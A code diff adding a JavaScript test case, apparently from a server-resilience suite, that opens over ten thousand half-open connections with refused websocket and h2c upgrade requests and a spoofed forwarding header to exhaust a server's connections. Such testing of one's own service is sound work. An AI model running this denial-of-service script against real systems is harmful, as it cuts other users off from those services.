@@ -1,0 +1,43 @@
+import { connect } from 'node:net';
+import { setTimeout as pause } from 'node:timers/promises';
+
+const total = 10_050;
+const heads = [
+  'GET /x HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n',
+  'GET /ws HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n',
+  'GET /ws HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n',
+];
+
+/**
+ * Asks for other protocols on more connections than the program takes, and keeps each half open; refusals did not close
+ * them, so that nobody else got in until the client let go.
+ */
+export const attack = {
+  name: 'refused upgrades',
+  async run({ base, signal }) {
+    const { hostname, port, host } = new URL(base);
+    const open = new Set();
+    const answers = new Map();
+    for (let count = 0; count < total && !signal.aborted; count++) {
+      const socket = connect({ host: hostname, port: Number(port), allowHalfOpen: true });
+      open.add(socket);
+      socket.once('close', () => open.delete(socket));
+      socket.on('error', () => {});
+      socket.once('data', (chunk) => {
+        const status = chunk.toString('latin1', 9, 12);
+        answers.set(status, (answers.get(status) ?? 0) + 1);
+      });
+      socket.write(`${heads[count % 3]}Host: ${host}\r\nX-Forwarded-For: 10.66.0.1\r\n\r\n`);
+      // As many as one process can begin at once.
+      if (count % 500 === 499) await pause(20);
+    }
+    await pause(10_000, null, { signal }).catch(() => {});
+    // Who has let go of a connection answers the next byte on it with a reset.
+    for (const socket of open) socket.write('x');
+    await pause(1000);
+    const statuses = [...answers].map(([status, count]) => `${count} × ${status}`).join(', ');
+    const figures = `${statuses}; ${open.size} still kept open by the program`;
+    for (const socket of open) socket.destroy();
+    return figures;
+  },
+};
